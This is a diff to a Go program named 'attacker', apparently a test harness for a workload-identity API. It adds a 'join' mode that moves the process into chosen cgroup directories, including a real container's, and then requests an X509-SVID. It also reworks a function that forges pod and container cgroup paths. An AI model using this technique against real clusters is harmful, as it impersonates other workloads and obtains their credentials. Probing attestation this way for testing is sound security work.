@@ -15,6 +15,11 @@
 // closing them at once), then holds them for SECONDS; with churn,
 // meanwhile it opens and closes new ones as fast as it can.
 //
+//	attacker join SOCKET DIR...
+//
+// moves itself into each cgroup directory DIR (run as root: into a real
+// container's cgroups), then asks the Workload API for an X509-SVID.
+//
 //	attacker handoff exec|exit SOCKET PROGRAM
 //
 // connects to the Workload API and hands the connection to a child
@@ -56,6 +61,8 @@ func main() {
 		n, _ := strconv.Atoi(os.Args[3])
 		secs, _ := strconv.Atoi(os.Args[4])
 		r = flood(os.Args[2], n, time.Duration(secs)*time.Second, len(os.Args) > 5 && os.Args[5] == "churn")
+	case "join":
+		r = joinCgroups(os.Args[2], os.Args[3:])
 	case "handoff":
 		handoff(os.Args[2], os.Args[3], os.Args[4])
 		return
@@ -73,13 +80,21 @@ func fail(err error) {
 }
 
 func forgeCgroup(socket, podUID, containerID string, dirs []string) result {
+	var forged []string
 	for _, d := range dirs {
-		forged := filepath.Join(d, "pod"+podUID, containerID)
-		if err := os.MkdirAll(forged, 0o755); err != nil {
+		f := filepath.Join(d, "pod"+podUID, containerID)
+		if err := os.MkdirAll(f, 0o755); err != nil {
 			fail(err)
 		}
-		if err := os.WriteFile(filepath.Join(forged, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0); err != nil {
-			fail(fmt.Errorf("moving into %s: %w", forged, err))
+		forged = append(forged, f)
+	}
+	return joinCgroups(socket, forged)
+}
+
+func joinCgroups(socket string, dirs []string) result {
+	for _, d := range dirs {
+		if err := os.WriteFile(filepath.Join(d, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0); err != nil {
+			fail(fmt.Errorf("moving into %s: %w", d, err))
 		}
 	}
 	cg, _ := os.ReadFile("/proc/self/cgroup")
